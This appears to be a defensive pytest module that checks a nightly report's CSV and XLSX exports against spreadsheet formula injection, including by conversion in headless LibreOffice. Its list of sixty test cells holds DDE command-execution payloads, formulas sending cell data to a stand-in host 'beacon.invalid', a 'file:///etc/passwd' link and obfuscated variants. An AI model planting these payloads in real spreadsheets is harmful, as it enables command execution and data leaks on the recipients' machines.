"""Cells that a spreadsheet would run: text in CSV and XLSX to whatever opens them, and still what was said."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import zipfile
from datetime import date, timedelta
from pathlib import Path
from types import ModuleType

import polars
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from page_checkers import soffice
from python_calamine import CalamineWorkbook

from calendar_sync.spans import Span
from dedupe.assembling import events
from dedupe.evidence import Recognition
from dedupe.finding import Found
from reports.nightly import NightlyReport
from reports.rendering import render
from reports.rendering.harmless import words
from reports.rendering.sheets import COLUMNS, harmless, original

CELLS = (
    # OWASP's list of what begins a formula, and what programs have been seen to run.
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0", '=HYPERLINK("https://beacon.invalid/"&A1,"press here")',
    '=WEBSERVICE("https://beacon.invalid/"&A1)', '=IMPORTXML("https://beacon.invalid/","//a")',
    '=IMAGE("https://beacon.invalid/x.png")', '=DDE("cmd","/C calc","x")', "=MSEXCEL|'\\..\\..\\calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=2+5+cmd|' /C calc'!A0", "=FILTERXML(A1,A2)", "=RTD(A1)",
    '=IMPORTDATA(CONCATENATE("https://beacon.invalid/?v=",A1))', "={1,2;3,4}", "=-1", "--1", "=+1", "=@SUM(1)",
    # What is not seen, and is skipped.
    " =1+1", "\t=1+1", "\n=1+1", "\r=1+1", "\r\n=1+1", "\u00a0=1+1", "\u2003=1+1", "\u200b=1+1", "\u2060=1+1",
    "\ufeff=1+1", "\u00ad=1+1", "\x00=1+1", "\x0b=1+1", "\u202e=1+1", " \t @SUM(1)",
    # Forms that a width or a locale makes of them.
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
    # Into the next cell.
    "Cairo;=1+1", "Cairo\t=1+1", "Cairo\n=1+1", 'Cairo",=1+1,"', 'Cairo";=1+1;"', "Cairo,=1+1", ";;@SUM(1)",
    "a\r\n=1+1",
    # Apostrophes, escapes and addresses of their own.
    "'=1+1", "''=1+1", "'Cairo'", "_x003D_1+1", "https://beacon.invalid/x", "mailto:a@beacon.invalid",
    "internal:Sheet1!A1", "file:///etc/passwd", "1e5",
)  # fmt: skip


@pytest.fixture(scope="module")
def report(composed: ModuleType) -> NightlyReport:
    """A report in which each cell is the title and the city of a listing of its own."""
    listings = [
        composed.a_listing(f"cell {number}", title=cell, city=cell, country="", audience=("EG",), organisers=(),
                           span=Span.exact(date(2009, 12, 7) + timedelta(days=6 * number)))
        for number, cell in enumerate(CELLS)
    ]  # fmt: skip
    # Each an event of its own, however alike.
    known = events(listings, Recognition((), tuple((listing.id,) for listing in listings)))
    told: NightlyReport = composed.compose(
        composed.COMMITTEE, composed.NIGHT, composed.ROSTER, listings, known, Found(), [], composed.GOOD
    )
    return told


def _said(rows: list[tuple[str, ...]], column: str) -> list[str]:
    at, section = COLUMNS.index(column), COLUMNS.index("section")
    return [row[at] for row in rows if row[section] == "coming"]


def test_there_are_sixty_cells():
    assert len(CELLS) == len(set(CELLS)) == 60


@pytest.mark.fault("T22")
def test_csv_is_text_to_two_readers_and_gives_back_what_was_said(report: NightlyReport, record_property):
    """Coordinators open it in whatever is there; programs want the words without our apostrophes."""
    body = render(report, "csv")
    plainly = [tuple(row) for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))][1:]
    table = polars.read_csv(body, infer_schema=False).fill_null("")
    others = [tuple(row) for row in table.rows()]
    assert plainly == others
    for column in ("event", "city"):
        cells = _said(plainly, column)
        assert [original(cell) for cell in cells] == [words(cell) for cell in CELLS]
        for cell in cells:
            for part in re.split("[;\t\n]", cell):
                assert not re.match(r"[\s\u00ad\u200b\u2060]*[=+\-@＝＋－＠]", part)
    record_property("cases", len(CELLS))
    record_property("measured", f"{len(CELLS)} cells, CSV by csv and polars, XLSX by openpyxl and calamine")


@pytest.mark.fault("T22")
def test_a_workbook_is_text_to_two_readers_and_says_what_was_said(report: NightlyReport, record_property):
    """A workbook knows text from formulas; no apostrophe is needed there."""
    body = render(report, "xlsx")
    sheet = load_workbook(io.BytesIO(body)).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.hyperlink]
    with zipfile.ZipFile(io.BytesIO(body)) as packed:
        assert not [name for name in packed.namelist() if re.search(rb"<f[ >]|<hyperlink|External", packed.read(name))]
    plainly = [tuple("" if cell is None else cell for cell in row) for row in sheet.iter_rows(values_only=True)][1:]
    others = [tuple(row) for row in CalamineWorkbook.from_filelike(io.BytesIO(body)).get_sheet_by_index(0).to_python()]
    for column in ("event", "city"):
        assert _said(plainly, column) == [words(cell) for cell in CELLS]
        assert _said(others, column) == [words(cell) for cell in CELLS]
    record_property("cases", len(CELLS))


@pytest.mark.parametrize("separator", [",", ";"])
def test_libreoffice_makes_no_formula_of_a_table(report: NightlyReport, tmp_path: Path, separator: str):
    """The program itself has the last word, also where the comma separates no cells."""
    assert _formulas(render(report, "csv"), "csv", tmp_path, separator) == []
    # And would it have run one?
    assert len(_formulas(f"a{separator}=1+1\n".encode(), "csv", tmp_path, separator)) == 1


def test_libreoffice_makes_no_formula_of_a_workbook(report: NightlyReport, tmp_path: Path):
    """Text of which a program might think otherwise."""
    assert _formulas(render(report, "xlsx"), "xlsx", tmp_path) == []


def _formulas(body: bytes, ending: str, folder: Path, separator: str = ",") -> list[str]:
    """Open a file in LibreOffice and return its cells that are formulas or hold a link."""
    file = folder / f"report.{ending}"
    file.write_bytes(body)
    # Separator, quotes, UTF-8, from the first row on; the last asks for formulas to be evaluated.
    reading = f"--infilter=CSV:{ord(separator)},34,76,1,,0,false,true,false,false,false,-1,true"
    subprocess.run(
        [soffice(), f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless",
         *([reading] if ending == "csv" else []), "--convert-to", "fods", "--outdir", str(folder), str(file)],
        capture_output=True, check=True, timeout=240,
    )  # fmt: skip
    sheet = (folder / "report.fods").read_text("utf-8")
    assert "1+1" in sheet
    return re.findall(r"<table:table-cell[^>]*table:formula=[^>]*>|<text:a [^>]*>", sheet)


@given(st.text(alphabet="'=+-@ \t\n\r;,\"a\u200b\uff1d", max_size=12))
def test_what_is_added_to_a_cell_can_be_taken_away(cell: str):
    """Whoever reads the table by program must get the title that was published."""
    assert original(harmless(cell)) == words(cell)
